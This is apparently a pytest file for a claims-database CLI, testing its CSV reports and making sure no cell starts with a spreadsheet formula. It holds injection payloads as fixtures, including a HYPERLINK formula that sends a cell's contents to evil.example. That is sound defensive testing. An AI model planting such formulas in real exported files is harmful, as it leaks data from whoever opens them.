"""``factdb report`` (side-by-side, matrix, timeline, sources) and formula-safe CSV everywhere.

Reports are read back the way an analyst would: ``pandas.read_csv(dtype=str,
keep_default_na=False)``. docs/reliability.md, CSV formula injection: no text cell of any CSV that
factdb writes starts with ``=``, ``+``, ``-``, ``@``, TAB or CR; numbers stay numbers.
Every test runs on SQLite and PostgreSQL (the ``seeded_cli`` fixture).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from factdb.interchange.reports import SIDE_BY_SIDE_COLUMNS, SOURCES_COLUMNS, TIMELINE_COLUMNS

REPORTS = ("side-by-side", "matrix", "timeline", "sources")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SEED_URL = (
    "https://www.thenationalnews.com/world/asia/2023/07/27/"
    "north-koreas-kim-jong-un-gives-missile-tour-to-russias-defence-minister/"
)
EVIL_CLAIM = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def report(cli: Any, tmp_path: Path, name: str, *args: str) -> pd.DataFrame:
    path = tmp_path / f"{name}.csv"
    result = cli.ok("report", name, "-o", str(path), *args)
    assert result.stdout == ""  # the note goes to stderr; stdout stays data
    return pd.read_csv(path, dtype=str, keep_default_na=False)


# --- what each report holds ----------------------------------------------------------------


def test_side_by_side(seeded_cli, tmp_path):
    frame = report(seeded_cli, tmp_path, "side-by-side")
    assert list(frame.columns) == SIDE_BY_SIDE_COLUMNS
    assert len(frame) == 14
    assert list(frame["claim_id"]) == [str(i) for i in range(1, 15)]
    first = frame.iloc[0]
    assert first["claim"].startswith("North Korea has shipped weapons")
    assert first["contested"] == "True"
    assert "White House" in first["for"]
    assert "North Korea" in first["against_sides"] and "Russia" in first["against_sides"]
    assert first["for_sides"] == "United States"
    assert first["assertions"] == "3"
    assert first["sources"] == "1"


def test_timeline(seeded_cli, tmp_path):
    frame = report(seeded_cli, tmp_path, "timeline")
    assert list(frame.columns) == TIMELINE_COLUMNS
    assert len(frame) == 18
    assert sorted(frame["assertion_id"], key=int) == [str(i) for i in range(1, 19)]
    # in date order, partial dates printed as given
    assert frame["date"].iloc[0] == "2022"
    assert set(frame["date_precision"]) <= {"year", "month", "day"}
    denies = frame[frame["stance"] == "denies"]
    assert len(denies) > 0
    assert set(denies["polarity"]) == {"-2"}
    asserts = frame[frame["stance"] == "asserts"]
    assert set(asserts["polarity"]) == {"2"}
    assert set(frame["retracted"]) == {"False"}


def test_sources(seeded_cli, tmp_path):
    frame = report(seeded_cli, tmp_path, "sources")
    assert list(frame.columns) == SOURCES_COLUMNS
    assert len(frame) == 1
    row = frame.iloc[0]
    assert row["outlet"] == "The National"
    assert row["published"] == "2023-07-27"
    assert row["assertions"] == "18"
    assert row["claims"] == "14"


def test_matrix_one_column_per_side(seeded_cli, tmp_path):
    frame = report(seeded_cli, tmp_path, "matrix")
    timeline = report(seeded_cli, tmp_path, "timeline")
    sides = sorted(set(timeline["side"]))
    assert list(frame.columns) == ["claim_id", "claim", *sides]
    assert len(frame) == 14
    assert len(sides) >= 5
    first = frame[frame["claim_id"] == "1"].iloc[0]
    assert first["United States"] == "asserts"
    assert first["North Korea"] == "denies"
    assert first["Russia"] == "denies"
    stances = {"", "asserts", "supports", "neutral", "disputes", "denies"}
    for side in sides:
        assert set(frame[side]) <= stances


def test_contested_filter(seeded_cli, tmp_path):
    frame = report(seeded_cli, tmp_path, "side-by-side", "--contested")
    assert len(frame) == 1
    assert frame.iloc[0]["claim_id"] == "1"
    assert frame.iloc[0]["contested"] == "True"


def test_as_of_filter_timeline(seeded_cli, tmp_path):
    frame = report(seeded_cli, tmp_path, "timeline", "--as-of", "2023-06")
    assert len(frame) == 1
    row = frame.iloc[0]
    assert row["date"] == "2022"
    assert "nuclear" in row["claim"]


def test_since_month_counts_assertions_of_that_month(seeded_cli, tmp_path):
    """`--since 2023-07` starts on 2023-07-01: assertions dated `2023-07` (month precision)
    and `2023-07-27` are on or after it; only the 2022 one is before."""
    frame = report(seeded_cli, tmp_path, "timeline", "--since", "2023-07")
    assert len(frame) == 17
    assert "2022" not in set(frame["date"])
    assert "2023-07" in set(frame["date"])


def test_until_and_as_of_cover_the_whole_period(seeded_cli, tmp_path):
    assert len(report(seeded_cli, tmp_path, "timeline", "--until", "2023-07")) == 18
    assert len(report(seeded_cli, tmp_path, "timeline", "--as-of", "2023-07")) == 18
    assert len(report(seeded_cli, tmp_path, "timeline", "--as-of", "2022")) == 1


@pytest.mark.parametrize(
    "filters",
    [
        [],
        ["--contested"],
        ["--actor", "Russia"],
        ["--tag", "ukraine-war"],
        ["--as-of", "2023-06"],
        ["--since", "2023-07-27"],
        ["--search", "nuclear"],
        ["--sanction", "UNSC Resolution 1718"],
        ["--stance", "denies"],
        ["--limit", "3"],
    ],
    ids=lambda f: " ".join(f) or "none",
)
def test_report_agrees_with_list(seeded_cli, tmp_path, filters):
    """docs/design.md: reports and `list` are built on the same queries and never disagree."""
    listed = seeded_cli.ok("list", *filters, "-f", "json").json()
    frame = report(seeded_cli, tmp_path, "side-by-side", *filters)
    assert sorted(frame["claim_id"], key=int) == sorted((str(r["id"]) for r in listed), key=int)
    matrix = report(seeded_cli, tmp_path, "matrix", *filters)
    assert sorted(matrix["claim_id"], key=int) == sorted((str(r["id"]) for r in listed), key=int)


@pytest.fixture
def sourced_cli(seeded_cli):
    """The seed article (one source) plus two more sources: one on a new claim tagged
    `iran-drones`, a contested one; one carrying a retracted assertion alone."""
    cli = seeded_cli
    cli.add(
        "Iran supplied drones to Russia",
        by="United States",
        stance="asserts",
        source="https://example.org/drones-us",
        date="2022-10",
        quote="Iranian drones hit Kyiv",
        tags=["iran-drones"],
    )
    cli.add(
        "Iran supplied drones to Russia",
        by="Iran",
        stance="denies",
        source="https://example.org/drones-iran",
        date="2022-12-19",
        tags=["iran-drones"],
    )
    retracted = cli.add(
        1,
        by="Russia",
        stance="denies",
        source="https://example.org/withdrawn",
        date="2023-08",
        format="json",
    ).json()
    cli.ok("retract", str(retracted["assertion_id"]), "--reason", "misread")
    return cli


@pytest.mark.parametrize(
    "filters",
    [
        [],
        ["--contested"],
        ["--actor", "Iran"],
        ["--tag", "iran-drones"],
        ["--as-of", "2022-11"],
        ["--since", "2023-07-27"],
        ["--search", "drones"],
        ["--sanction", "UNSC Resolution 1718"],
        ["--stance", "denies"],
        ["--limit", "3"],
        ["--include-retracted"],
    ],
    ids=lambda f: " ".join(f) or "none",
)
def test_sources_report_is_filtered_like_the_timeline(sourced_cli, tmp_path, filters):
    """The sources report lists the sources of the assertions the timeline report counts
    under the same filters, each with how many of them it carries and on how many claims."""
    timeline = report(sourced_cli, tmp_path, "timeline", *filters)
    frame = report(sourced_cli, tmp_path, "sources", *filters)
    assert list(frame.columns) == SOURCES_COLUMNS
    expected = {
        url: (str(len(rows)), str(rows["claim_id"].nunique()))
        for url, rows in timeline.groupby("source_url")
    }
    got = {row["url"]: (row["assertions"], row["claims"]) for _, row in frame.iterrows()}
    assert got == expected
    assert list(frame["source_id"]) == sorted(frame["source_id"], key=int)


def test_sources_report_filters_cut_rows(sourced_cli, tmp_path):
    everything = report(sourced_cli, tmp_path, "sources")
    assert len(everything) == 3  # the withdrawn source carries nothing that counts
    tagged = report(sourced_cli, tmp_path, "sources", "--tag", "iran-drones")
    assert set(tagged["url"]) == {
        "https://example.org/drones-us",
        "https://example.org/drones-iran",
    }
    as_of = report(sourced_cli, tmp_path, "sources", "--as-of", "2022-11")
    assert set(as_of["url"]) == {"https://example.org/drones-us", SEED_URL}
    assert list(as_of[as_of["url"] == SEED_URL]["assertions"]) == ["1"]  # the 2022 one
    assert len(report(sourced_cli, tmp_path, "sources", "--limit", "0")) == 0
    withdrawn = report(sourced_cli, tmp_path, "sources", "--include-retracted")
    assert "https://example.org/withdrawn" in set(withdrawn["url"])


def test_output_to_stdout(seeded_cli, tmp_path):
    for name in REPORTS:
        result = seeded_cli.ok("report", name, "-o", "-")
        from_stdout = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
        from_file = report(seeded_cli, tmp_path, name)
        # recorded_at and ids are stable between the two runs: same data, same bytes
        pd.testing.assert_frame_equal(from_stdout, from_file)


def test_crlf_rows(seeded_cli, tmp_path):
    path = tmp_path / "r.csv"
    seeded_cli.ok("report", "sources", "-o", str(path))
    data = path.read_bytes()
    assert data.count(b"\r\n") == 2
    assert b"\n" not in data.replace(b"\r\n", b"")


def test_unknown_report_is_usage_error(seeded_cli, tmp_path):
    path = tmp_path / "nope.csv"
    result = seeded_cli("report", "nope", "-o", str(path))
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1
    assert "side-by-side" in result.stderr
    assert "Traceback" not in result.stderr
    assert not path.exists()


def test_the_help_names_every_report() -> None:
    """The names come from one registry (``reports.REPORTS``); the help of ``report`` (kept
    literal so that the command line starts without the reports module) lists them all."""
    import typer

    from factdb.cli.app import app
    from factdb.interchange.reports import REPORTS as REGISTRY

    assert tuple(REGISTRY) == REPORTS
    command = typer.main.get_group(app).commands["report"]
    (name,) = [p for p in command.params if p.name == "name"]
    *first, last = REGISTRY
    assert getattr(name, "help", None) == f"{', '.join(first)} or {last}."


def test_bad_filter_is_usage_error(seeded_cli, tmp_path):
    path = tmp_path / "x.csv"
    result = seeded_cli("report", "timeline", "--as-of", "27/02/2024", "-o", str(path))
    assert result.exit_code == 2
    assert "--as-of" in result.stderr
    assert not path.exists()


def test_unwritable_output_leaves_nothing(seeded_cli, tmp_path):
    path = tmp_path / "no-such-dir" / "x.csv"
    result = seeded_cli("report", "timeline", "-o", str(path))
    assert result.exit_code in (1, 2)
    assert len(result.stderr.splitlines()) == 1
    assert "Traceback" not in result.stderr
    assert list(tmp_path.glob("**/.*.factdb-*.tmp")) == []


def test_empty_database_reports_have_headers(cli, tmp_path):
    for name, columns in (
        ("side-by-side", SIDE_BY_SIDE_COLUMNS),
        ("timeline", TIMELINE_COLUMNS),
        ("sources", SOURCES_COLUMNS),
    ):
        frame = report(cli, tmp_path, name)
        assert list(frame.columns) == columns
        assert len(frame) == 0


def test_retracted_left_out_unless_asked(seeded_cli, tmp_path):
    seeded_cli.ok("retract", "2", "--reason", "=mistaken")
    timeline = report(seeded_cli, tmp_path, "timeline")
    assert len(timeline) == 17
    assert "2" not in set(timeline["assertion_id"])
    everything = report(seeded_cli, tmp_path, "timeline", "--include-retracted")
    assert len(everything) == 18
    row = everything[everything["assertion_id"] == "2"].iloc[0]
    assert row["retracted"] == "True"
    assert row["retraction_reason"] == "'=mistaken"  # formula-escaped
    first = report(seeded_cli, tmp_path, "side-by-side")
    assert first.iloc[0]["assertions"] == "2"


NASTY_ENTITIES = [
    {"type": "actor", "name": '=Side, "one"', "kind": "state", "part_of": None, "aliases": []},
    {"type": "actor", "name": "@Actor, Inc.", "kind": "government", "part_of": '=Side, "one"'},
    {"type": "actor", "name": "Plain", "kind": "person", "part_of": None, "aliases": []},
    {
        "type": "actor",
        "name": "-Minus man",
        "kind": "person",
        "part_of": "@Actor, Inc.",
        "part_of_since": "2022-06",
        "memberships": [{"parent": "Plain", "since": "2019", "until": "2022-05"}],
    },
    {"type": "source", "url": "https://x.example/a,b", "outlet": "=Outlet",
     "title": 'T "x", next', "published": "2023-07", "updated": None},
    {"type": "source", "url": "https://y.example/", "outlet": None, "title": None,
     "published": "2021", "updated": None},
]  # fmt: skip
NASTY_ROWS = [
    # claim, actor, stance, date, source_url, outlet, title, quote, via, qualifier, note
    ["=SUM(1,2)", "@Actor, Inc.", "asserts", "~2022-10", "https://x.example/a,b", "=Outlet",
     'T "x", next', 'Tabbed, "q"', "+Relay; Second, Relay", "hedged", '-note, "q"'],
    ['Claim "quoted", commas\r\nand newline', "-Minus man", "denies", "2021",
     "https://y.example/", "", "", "line1\nline2", "", "", ""],
    ["plain", "-Minus man", "supports", "2023", "https://y.example/", "", "", "", "", "", ""],
    ["unit\x1fsep", "Plain", "neutral", "2024-02-03", "https://u.example/1", "O\x1fut",
     "ti\x1ftle", "q\x1fq, x", "Re\x1flay", "partial", "n\x1fo"],
    ["unit\x1fplain", "Plain", "disputes", "~2020", "https://u.example/2", "Out", "title",
     "q\x1fq", "", "", "'x"],
]  # fmt: skip


def test_timeline_bytes_on_nasty_text(cli, tmp_path):
    """Text with commas, double quotes, line breaks, formula starts and the control
    character that joins the fields read from the database (``UNIT_SEPARATOR``): every cell
    comes back as written (formula-escaped), quoted exactly as ``csv.writer`` (and pandas'
    ``to_csv`` before it) writes CSV, with sides on the statements' dates, numbers and
    booleans as Python prints them."""
    import json

    from factdb.interchange.common import CSV_COLUMNS

    entities = tmp_path / "entities.jsonl"
    entities.write_text("".join(json.dumps(e) + "\n" for e in NASTY_ENTITIES))
    flat = tmp_path / "flat.csv"
    with flat.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(CSV_COLUMNS)
        writer.writerows([*row[:9], "", "", *row[9:]] for row in NASTY_ROWS)
    cli.ok("import", str(entities))
    cli.ok("import", str(flat))
    cli.ok("retract", "2", "--reason", '=because, "x"\ny')
    path = tmp_path / "timeline.csv"
    cli.ok("report", "timeline", "--include-retracted", "-o", str(path))
    text = path.read_bytes().decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    again = io.StringIO(newline="")
    csv.writer(again, lineterminator="\r\n").writerows(rows)
    assert again.getvalue() == text
    assert rows[0] == TIMELINE_COLUMNS
    got = {row[0]: dict(zip(TIMELINE_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert [row[0] for row in rows[1:]] == ["5", "2", "1", "3", "4"]  # in date order
    first, retracted, later, unit, other = (got[i] for i in ("1", "2", "3", "4", "5"))
    assert {k: first[k] for k in TIMELINE_COLUMNS if k not in ("recorded_at",)} == {
        "assertion_id": "1",
        "date": "~2022-10",
        "date_precision": "month",
        "claim_id": "1",
        "claim": "'=SUM(1,2)",
        "actor": "'@Actor, Inc.",
        "actor_kind": "government",
        "side": '\'=Side, "one"',
        "stance": "asserts",
        "polarity": "2",
        "via": "'+Relay; Second, Relay",
        "quote": 'Tabbed, "q"',
        "source_url": "https://x.example/a,b",
        "outlet": "'=Outlet",
        "source_title": 'T "x", next',
        "source_published": "2023-07",
        "retracted": "False",
        "retracted_at": "",
        "retraction_reason": "",
        "qualifier": "hedged",
        "qualifier_note": '\'-note, "q"',
    }
    assert first["recorded_at"].endswith("+00:00")
    # a member of Plain until 2022-05, of @Actor, Inc. (of =Side) since 2022-06
    assert (retracted["side"], later["side"]) == ("Plain", '\'=Side, "one"')
    assert (retracted["retracted"], retracted["retraction_reason"]) == (
        "True",
        '\'=because, "x"\ny',
    )
    assert retracted["retracted_at"].endswith("+00:00")
    assert (retracted["polarity"], later["polarity"], other["polarity"]) == ("-2", "1", "-1")
    assert "\n" in retracted["claim"] and retracted["quote"] == "line1\nline2"
    assert (retracted["source_published"], later["date"], other["date"]) == (
        "2021",
        "2023",
        "~2020",
    )
    assert [unit[k] for k in ("claim", "source_url", "outlet", "source_title", "quote")] == [
        "unit\x1fsep",
        "https://u.example/1",
        "O\x1fut",
        "ti\x1ftle",
        "q\x1fq, x",
    ]
    assert (unit["via"], unit["qualifier_note"], unit["source_published"]) == (
        "Re\x1flay",
        "n\x1fo",
        "",
    )
    assert (other["quote"], other["qualifier_note"], other["via"]) == ("q\x1fq", "''x", "")


# --- formula injection ---------------------------------------------------------------------


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def unsafe_cells(text: str) -> list[tuple[int, int, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [
        (i, j, cell)
        for i, row in enumerate(rows)
        for j, cell in enumerate(row)
        if cell.startswith(TRIGGERS) and not _is_number(cell)
    ]


def escaped_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [c for row in rows for c in row if c[:1] == "'" and c[1:2] in TRIGGERS + ("'",)]


@pytest.fixture
def evil_cli(seeded_cli):
    """The seed article plus stored text that spreadsheets would run as formulas."""
    cli = seeded_cli
    cli.ok(
        "sanction",
        "add",
        "=Evil Sanction",
        "--measures",
        "-everything",
        "--authority",
        "@UN",
        "--new-actor",  # not the seed's UN Security Council
        "--target",
        "+Target",
        "--programme",
        "=Programme",
    )
    evil = cli.add(
        EVIL_CLAIM,
        by="@Evil",
        stance="asserts",
        source="https://example.org/x",
        date="2024",
        quote="+1+2",
        via=["+Via"],
        tags=["=cmd"],
        violates=["=Evil Sanction"],
        outlet="@Outlet",
        title="-Title",
        format="json",
    ).json()
    dash = cli.ok(
        "add",
        "--by",
        "-Dash",
        "--stance",
        "denies",
        "--source",
        "https://example.org/y",
        "--date",
        "2024-02",
        "--quote",
        "-5 says no",
        "-f",
        "json",
        "--",
        "-minus claim",
    ).json()
    tab = cli.add(
        "'quoted claim",
        by="Tabby",
        stance="disputes",
        source="https://example.org/z",
        date="2024-02-03",
        quote="placeholder",
        format="json",
    ).json()
    cr = cli.add(
        dash["claim_id"],
        by="Carriage",
        stance="denies",
        source="https://example.org/z",
        date="2024-03",
        quote="placeholder",
        format="json",
    ).json()
    # TAB and CR cannot come in through `add` (surrounding whitespace is trimmed), but SQL
    # users, psql and other tools can store them.
    for assertion, quote in ((tab, "\t=1+1"), (cr, "\r=2+2")):
        cli.ok(
            "sql",
            "UPDATE assertion SET quote = :q WHERE id = :id",
            "--write",
            "-p",
            f"q={quote}",
            "-p",
            f"id={assertion['assertion_id']}",
        )
    cli.ok(
        "sql",
        "UPDATE claim SET text = :t WHERE id = :id",
        "--write",
        "-p",
        "t=\t@SUM(A1) tab claim",
        "-p",
        f"id={tab['claim_id']}",
    )
    cli.claim_ids = [evil["claim_id"], dash["claim_id"], tab["claim_id"]]
    return cli


def _outputs(cli: Any, tmp_path: Path) -> dict[str, str]:
    out: dict[str, str] = {}
    for name in REPORTS:
        path = tmp_path / f"{name}.csv"
        cli.ok("report", name, "-o", str(path))
        out[f"report {name}"] = path.read_text(encoding="utf-8")
        out[f"report {name} (stdout)"] = cli.ok("report", name, "-o", "-").stdout
    out["list"] = cli.ok("list", "-f", "csv").stdout
    out["list --include-retracted"] = cli.ok("list", "--include-retracted", "-f", "csv").stdout
    for cid in cli.claim_ids:
        out[f"show {cid}"] = cli.ok("show", str(cid), "-f", "csv").stdout
    path = tmp_path / "x.csv"
    cli.ok("export", str(path))
    out["export x.csv"] = path.read_text(encoding="utf-8")
    out["export - --format csv"] = cli.ok("export", "-", "--format", "csv").stdout
    out["actor list"] = cli.ok("actor", "list", "-f", "csv").stdout
    out["source list"] = cli.ok("source", "list", "-f", "csv").stdout
    out["sanction list"] = cli.ok("sanction", "list", "-f", "csv").stdout
    out["sql claim"] = cli.ok("sql", "SELECT * FROM claim", "-f", "csv").stdout
    out["sql assertion_detail"] = cli.ok(
        "sql", "SELECT * FROM assertion_detail", "-f", "csv"
    ).stdout
    return out


def test_no_csv_output_starts_with_a_formula(evil_cli, tmp_path):
    outputs = _outputs(evil_cli, tmp_path)
    problems = {name: unsafe_cells(text) for name, text in outputs.items()}
    assert {k: v for k, v in problems.items() if v} == {}
    for name, text in outputs.items():
        assert escaped_cells(text), f"{name}: the test data did not reach this output"


def test_matrix_header_is_escaped(evil_cli, tmp_path):
    """A side's name becomes a column header of the matrix: the header row is a row of cells
    a spreadsheet evaluates too."""
    path = tmp_path / "matrix.csv"
    evil_cli.ok("report", "matrix", "-o", str(path))
    header = next(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert "@Evil" not in header
    assert "'@Evil" in header
    assert "'-Dash" in header


def test_escaped_values_and_numbers(evil_cli, tmp_path):
    timeline = report(evil_cli, tmp_path, "timeline")
    evil = timeline[timeline["claim"] == "'" + EVIL_CLAIM].iloc[0]
    assert evil["actor"] == "'@Evil"
    assert evil["quote"] == "'+1+2"
    assert evil["via"] == "'+Via"
    assert evil["outlet"] == "'@Outlet"
    assert evil["source_title"] == "'-Title"
    assert evil["polarity"] == "2"
    dash = timeline[timeline["actor"] == "'-Dash"].iloc[0]
    assert dash["claim"] == "'-minus claim"
    assert dash["quote"] == "'-5 says no"
    assert dash["polarity"] == "-2"  # a number, not escaped
    assert set(timeline[timeline["stance"] == "denies"]["polarity"]) == {"-2"}
    assert set(timeline[timeline["stance"] == "disputes"]["polarity"]) == {"-1"}
    tab = timeline[timeline["actor"] == "Tabby"].iloc[0]
    assert tab["quote"] == "'\t=1+1"
    assert tab["claim"] == "'\t@SUM(A1) tab claim"
    assert timeline[timeline["actor"] == "Carriage"].iloc[0]["quote"] == "'\r=2+2"
    # a leading apostrophe is doubled, so that import can undo the escaping exactly
    shown = evil_cli.ok("show", str(evil_cli.claim_ids[1]), "-f", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(shown, newline="")))
    assert {r["polarity"] for r in rows} == {"-2"}


def test_leading_apostrophe_doubled(seeded_cli, tmp_path):
    seeded_cli.add(
        "'quoted claim", by="Someone", stance="neutral", source="https://example.org/q", date="2024"
    )
    frame = report(seeded_cli, tmp_path, "side-by-side")
    assert "''quoted claim" in set(frame["claim"])


def test_json_output_is_not_escaped(evil_cli):
    """Escaping is for CSV only; JSON keeps the exact stored text."""
    data = evil_cli.ok("show", str(evil_cli.claim_ids[0]), "-f", "json").json()
    assert data["claim"] == EVIL_CLAIM
    assert data["assertions"][0]["actor"] == "@Evil"
    assert data["assertions"][0]["quote"] == "+1+2"
